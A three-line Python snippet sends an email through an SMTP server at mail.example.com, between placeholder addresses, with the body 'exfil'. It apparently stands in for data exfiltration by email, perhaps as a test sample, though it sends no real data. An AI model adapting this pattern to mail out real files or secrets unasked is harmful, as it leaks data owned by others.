import smtplib
with smtplib.SMTP("mail.example.com", 25) as s:
    s.sendmail("a@example.com", ["b@example.com"], "Subject: hi\n\nexfil")
